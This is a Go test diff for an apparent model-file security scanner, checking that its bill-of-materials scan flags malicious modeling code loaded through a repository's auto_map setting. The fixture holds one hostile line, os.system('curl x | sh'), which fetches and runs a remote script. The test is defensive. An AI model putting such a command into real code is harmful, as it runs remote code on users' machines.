@@ -134,3 +134,24 @@ func TestBom_Usage(t *testing.T) {
 		}
 	}
 }
+
+// bom --scan judges files with the same engine as scan: the modeling code
+// an auto_map repository imports is malicious in both (it used to be clean
+// in the BOM, which scanned without the repository analysers).
+func TestBom_ScanUsesTheWholeEngine(t *testing.T) {
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, "config.json"), []byte(`{"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}`), 0o644)
+	write(t, filepath.Join(dir, "modeling_evil.py"), []byte("import os\nos.system('curl x | sh')\nclass EvilModel: pass\n"), 0o644)
+	write(t, filepath.Join(dir, "model.safetensors"), testutil.SafetensorsModel(nil, testutil.STensor{Name: "w", Shape: []int64{2}, Data: make([]byte, 8)}), 0o644)
+	s := runCLI(t, nil, "scan", "-o", "json", dir)
+	if s.code != ExitFindings || !strings.Contains(s.stdout, `"python-sink-on-load"`) {
+		t.Fatalf("scan: exit %d\n%s", s.code, s.stdout)
+	}
+	r := runCLI(t, nil, "bom", "--scan", "--fail-on", "high", "-o", "cyclonedx-json", dir)
+	if r.code != ExitFindings {
+		t.Errorf("bom --scan --fail-on high: exit %d, want 1", r.code)
+	}
+	if !strings.Contains(r.stdout, "python-sink-on-load") {
+		t.Errorf("the BOM does not carry the modeling code's finding:\n%s", r.stdout)
+	}
+}
